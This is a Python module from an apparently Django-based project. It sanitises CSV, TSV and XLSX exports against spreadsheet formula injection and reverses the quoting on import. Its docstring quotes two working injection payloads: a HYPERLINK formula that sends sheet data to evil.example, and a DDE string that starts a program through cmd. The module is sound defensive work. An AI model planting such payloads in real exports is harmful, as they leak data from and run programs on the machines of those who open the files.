"""The one rule for a value written into a spreadsheet cell (CSV, TSV or XLSX): it stays the
value it is and is never run as a formula (CSV/formula injection).

A spreadsheet reads a CSV cell that starts with ``= + - @``, a tab or a carriage return as
a formula: ``=HYPERLINK("http://evil.example/?"&A1,"x")`` sends the sheet's data away,
``-2+3+cmd|' /C calc'!A0`` starts a program through DDE. So, in CSV and TSV:

- a text that starts like a formula goes out with a leading ``'`` (``'=HYPERLINK(…)``),
  which Excel and LibreOffice show as text and do not evaluate;
- a cell that a spreadsheet reads as a plain number (``-5``, ``+1``, ``-58.38``) is left
  alone, whether it is a number or text: it cannot be a formula, and numbers written as text
  (the admin's export writes every value as text) stay numbers;
- so that an import can take the quote off again exactly (``from_csv_cell``), a text that
  already starts with quotes before such a character gets one more (``'=x`` -> ``''=x``).

In XLSX a text is always a string cell, written as it is: a string cell is never evaluated,
whatever it starts with. openpyxl (tablib writes through it too) would make a text that
starts with ``=`` a formula cell and ``#N/A`` an error cell; ``xlsx_cell`` hands those over as
rich text, which openpyxl always writes as a string. Characters XLSX cannot hold (control
characters) are dropped instead of failing the whole export.

Every writer calls this module: the API's CSV and XLSX (cooperation.api), which are also
the list pages' exports and the explorer pivot's (cooperation.exports), the CSV that
PostgreSQL writes (cooperation.csv_sql builds its SQL from the constants here), the import
templates and the export for re-import (cooperation.imports.book_response) and the admin's
import-export (cooperation.admin). The import readers take the quote off CSV cells
(cooperation.imports, the admin's CSV and TSV import), so every export imports back to the
values it came from.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

import tablib
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.cell.rich_text import CellRichText

# A spreadsheet reads a CSV cell that starts with one of these as a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A cell a spreadsheet reads as a plain number, never a formula (ASCII digits; written so
# that PostgreSQL's regular expressions read it the same: cooperation.csv_sql).
NUMBER_PATTERN = r"[+-]?[0-9]+([.][0-9]+)?"
_NUMBER = re.compile(NUMBER_PATTERN)
# Formats whose cells are CSV cells.
CSV_FORMATS = ("csv", "tsv")


def starts_like_formula(text: str) -> bool:
    """Whether a CSV cell holding ``text`` needs the leading quote (quotes already in front
    count as part of the start, so that the quote comes off again exactly)."""
    return text.lstrip(QUOTE).startswith(FORMULA_PREFIXES) and not _NUMBER.fullmatch(text)


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV or TSV cell: a text that starts like a formula gets a leading
    ``'``; anything else (numbers, dates, other texts) is returned unchanged."""
    if isinstance(value, str) and starts_like_formula(value):
        return QUOTE + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(value) for value in values]


def from_csv_cell(value: Any) -> Any:
    """The value ``csv_cell`` was given: for an import reading a CSV cell."""
    if isinstance(value, str) and value.startswith(QUOTE) and starts_like_formula(value[1:]):
        return value[1:]
    return value


def xlsx_cell(value: Any) -> Any:
    """``value`` for an openpyxl cell (a plain or a write-only sheet, or tablib's): a text
    is always a string cell, never a formula or an error; other values unchanged."""
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    if text.startswith("=") or text in ERROR_CODES:
        return CellRichText(text)
    return text


def safe_dataset(dataset: tablib.Dataset, export_format: str) -> tablib.Dataset:
    """A copy of ``dataset`` (headers, title, rows) whose cells follow the rule for
    ``export_format`` ("csv", "tsv", "xlsx"; other formats are not spreadsheets and get
    the rows unchanged), for tablib or django-import-export to write."""
    if export_format in CSV_FORMATS:
        rule = csv_cell
    elif export_format == "xlsx":
        rule = xlsx_cell
    else:
        return dataset
    return tablib.Dataset(
        *([rule(value) for value in row] for row in dataset),
        headers=dataset.headers,
        title=dataset.title,
    )


def from_csv_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    """``dataset`` read from a CSV or TSV file, with the quotes of ``csv_cell`` taken off."""
    return tablib.Dataset(
        *([from_csv_cell(value) for value in row] for row in dataset),
        headers=dataset.headers,
        title=dataset.title,
    )
